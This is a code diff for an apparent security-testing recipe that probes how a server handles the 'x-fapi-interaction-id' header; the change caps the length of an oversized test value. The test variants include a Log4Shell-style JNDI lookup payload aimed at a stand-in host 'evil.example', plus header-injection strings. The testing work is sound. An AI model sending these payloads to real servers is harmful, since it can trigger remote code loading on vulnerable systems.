@@ -23,6 +23,9 @@ final class InteractionId implements Recipe {
   private static final String FIELD = "x-fapi-interaction-id";
   private static final String MARK = "countersign-attacker-mark";
 
+  /** Our choice: below what servers take of header fields, and far above a UUID. */
+  private static final int LONG = 4_000;
+
   private record Variant(String what, List<String> lines) {}
 
   @Override
@@ -44,7 +47,8 @@ final class InteractionId implements Recipe {
         play.twin("with a UUID", () -> let(send(lab, stolen, List.of(FIELD + ": " + good))));
     boolean same = twin.header(FIELD).filter(good::equalsIgnoreCase).isPresent();
     play.should("a UUID comes back", same, same ? "it does" : "it does not", RULE);
-    for (Variant variant : variants()) {
+    int most = lab.target().bounds().heavy() ? 1_000_000 : LONG;
+    for (Variant variant : variants(most)) {
       judge(play, variant, send(lab, stolen, variant.lines()));
     }
   }
@@ -56,7 +60,7 @@ final class InteractionId implements Recipe {
     return answer;
   }
 
-  private static List<Variant> variants() {
+  private static List<Variant> variants(int most) {
     String uuid = UUID.randomUUID().toString();
     return List.of(
         one("no UUID", MARK),
@@ -70,7 +74,7 @@ final class InteractionId implements Recipe {
         one("a name to look up", "${jndi:ldap://evil.example/" + MARK + "}"),
         one("a line end of Unicode", uuid + "\u00e2\u0080\u00a8" + MARK),
         one("a UUID and more", uuid + " " + MARK),
-        one("a million characters", MARK + "a".repeat(1_000_000)),
+        one(most + " characters", MARK + "a".repeat(most)),
         new Variant("two of them", List.of(FIELD + ": " + uuid, FIELD + ": " + MARK)));
   }
 
